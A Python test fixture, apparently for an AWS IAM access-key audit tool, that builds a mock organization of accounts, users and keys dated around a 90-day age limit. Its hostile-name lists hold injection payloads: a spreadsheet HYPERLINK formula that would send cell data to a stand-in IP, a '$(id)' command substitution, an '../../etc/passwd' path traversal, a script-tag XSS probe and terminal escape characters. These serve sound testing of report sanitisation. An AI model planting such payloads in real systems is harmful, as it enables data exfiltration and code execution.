"""The organization that is planted, and what must be said of each of its keys."""

from __future__ import annotations

from copy import deepcopy
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta

from .server import CALLER_ACCOUNT


def at(text: str) -> datetime:
    """A moment of the plan, in UTC."""
    return datetime.fromisoformat(text).replace(tzinfo=UTC)


AS_OF = at("2025-06-30T12:00:00")
LIMIT = timedelta(days=90)
USER_CREATED = at("2014-01-01T00:00:00")
PASS, FAIL, UNKNOWN, INACTIVE = "PASS", "FAIL", "UNKNOWN", "not active"


@dataclass
class Key:
    """An access key, and what must be said of it."""

    created: datetime
    verdict: str
    used: datetime | None = None
    key_id: str = ""

    @property
    def is_active(self) -> bool:
        return self.verdict != INACTIVE


@dataclass
class User:
    """An IAM user."""

    name: str
    keys: list[Key] = field(default_factory=list)
    created: datetime = USER_CREATED
    has_password: bool = False
    password_used: datetime | None = None
    has_mfa: bool = False
    arn: str = ""

    @property
    def is_looked_up(self) -> bool:
        """Key ids are looked up for users with findings only."""
        return any(key.verdict in (FAIL, UNKNOWN) for key in self.keys)

    @property
    def has_twins(self) -> bool:
        """Whether keys of one second were looked up: no slot can be told from the other."""
        return self.is_looked_up and len({key.created for key in self.keys}) < len(self.keys)


@dataclass
class Account:
    """An account of the organization."""

    name: str
    ou: tuple[str, ...]
    users: list[User]
    email: str = "owner@example.com"
    has_role: bool = True
    is_closed: bool = False
    account_id: str = ""

    @property
    def shown(self) -> str:
        return SHOWN.get(self.name, self.name)

    @property
    def ou_path(self) -> str:
        return "/".join(name.replace("/", r"\/") for name in self.ou)

    @property
    def outcome(self) -> str:
        if self.is_closed:
            return "not_active"
        return "scanned" if self.has_role or self.account_id == CALLER_ACCOUNT else "access_denied"

    @property
    def reason(self) -> str:
        if self.outcome == "access_denied":
            role = f"arn:aws:iam::{self.account_id}:role/CredentialAudit"
            user = f"arn:aws:iam::{CALLER_ACCOUNT}:user/auditor"
            refusal = f"User: {user} is not authorized to perform: sts:AssumeRole on resource: {role}"
            return f"sts:AssumeRole: AccessDenied: {refusal}"
        return "the account's state is SUSPENDED" if self.is_closed else ""


def old(verdict: str = FAIL) -> Key:
    return Key(at("2020-02-29T01:02:03"), verdict)


def young() -> Key:
    return Key(at("2025-06-01T00:00:00"), PASS)


PROD = ("Root", "Workloads", "Prod")
DEV = ("Root", "Workloads", "=R&D/Dev")  # a slash within an OU's name is no level of the tree
BOUNDARY = [
    User("exactly-90-days", [Key(at("2025-04-01T12:00:00"), PASS)]),
    User("one-second-more", [Key(at("2025-04-01T11:59:59"), FAIL)]),
    User("almost-91-days", [Key(at("2025-03-31T12:00:01"), FAIL)]),
    User("91-days", [Key(at("2025-03-31T12:00:00"), FAIL)]),
    User("within-a-second", [Key(at("2025-03-30T12:00:00.987"), FAIL)]),
    User("ten-years", [Key(at("2015-06-30T12:00:00"), FAIL, used=at("2025-06-29T23:59:00"))]),
    User("before-use-was-recorded", [Key(at("2012-01-01T00:00:00"), FAIL)]),
    User("one-day", [Key(at("2025-06-29T12:00:00"), PASS, used=at("2025-06-30T01:00:00"))]),
    User("after-the-date-of-the-audit", [Key(at("2025-07-01T06:00:00"), PASS)]),
    User("in-the-future", [Key(at("2150-01-01T00:00:00"), UNKNOWN)]),
]
PAIRS = [
    User("no-key"),
    User("inactive-old", [old(INACTIVE)]),
    User("both-old", [Key(at("2019-01-01T00:00:00"), FAIL), Key(at("2018-01-01T00:00:00"), FAIL)]),
    User("first-inactive-second-old", [Key(at("2017-05-05T05:05:05"), INACTIVE), old()]),
    User("first-young-second-old", [young(), old()]),
    User("both-young", [young(), Key(at("2025-06-02T00:00:00"), PASS)]),
    User("same-second", [old(), old()]),
]
PEOPLE = [
    User("signed-in", has_password=True, password_used=at("2025-06-01T10:00:00"), has_mfa=True),
    User("never-signed-in", has_password=True, created=at("2020-01-01T00:00:00")),
    User("older-than-the-records", has_password=True, keys=[old()]),
]
HOSTILE_USERS = [
    User(name, [old()]) for name in ("=HYPERLINK(A1)", "+x", "@x", "-rf", "$(id)", "'quoted", "a_x0041_b", "#N/A")
]
WORDS = [User(name, [old(), young()]) for name in ("NA", "nan", "null", "None", "true", "007", "1e5")]
HOSTILE_NAMES = [
    '=HYPERLINK("http://192.0.2.1/?x="&A1,"Open")',
    "+1 Payments",
    "-2+3",
    "@SUM(1+1)",
    "'quoted",
    "#N/A",
    "../../etc/passwd",
    "<script>alert(1)</script>",
    "_x0041_",
    "[red]markup[/red]",
    "Line\nfeed\tand\x1b[31m",
    "Right \u202eto left",
]
SHOWN = {
    "Line\nfeed\tand\x1b[31m": r"Line\nfeed\tand\u001b[31m",
    "Right \u202eto left": r"Right \u202eto left",
}
"""Names that act on whoever sees them, as reports have to show them."""


def plan() -> list[Account]:
    """41 accounts: three pages of ListAccounts, the last of one; 21 in one OU: two pages of ListAccountsForParent."""
    accounts = [
        Account("master", ("Root",), [User("break-glass", [old()])], email="master@example.com"),
        Account("Boundary", PROD, deepcopy(BOUNDARY)),
        Account("Pairs", PROD, deepcopy(PAIRS)),
        Account("People", DEV, deepcopy(PEOPLE)),
        Account("Hostile users", DEV, deepcopy(HOSTILE_USERS), email="=1+1@example.com"),
        Account("Words", DEV, deepcopy(WORDS)),
        Account("Payments", PROD, [User("deploy", [old()])]),
        Account("Payments", DEV, [User("deploy", [old()])]),
        Account("Denied", ("Root", "Security"), [User("unseen", [old(), old(INACTIVE)])], has_role=False),
        Account("Closed", ("Root", "Suspended"), [User("gone", [old()])], is_closed=True),
        *(Account(name, DEV, [User("robot", [old()])]) for name in HOSTILE_NAMES),
    ]
    accounts[0].account_id = CALLER_ACCOUNT
    in_prod = sum(account.ou == PROD for account in accounts)
    accounts += [Account(f"Service {n:02}", PROD, [User("robot", [young()])]) for n in range(21 - in_prod)]
    accounts += [Account(f"Team {n:02}", ("Root",), [User("robot", [young()])]) for n in range(41 - len(accounts))]
    return accounts
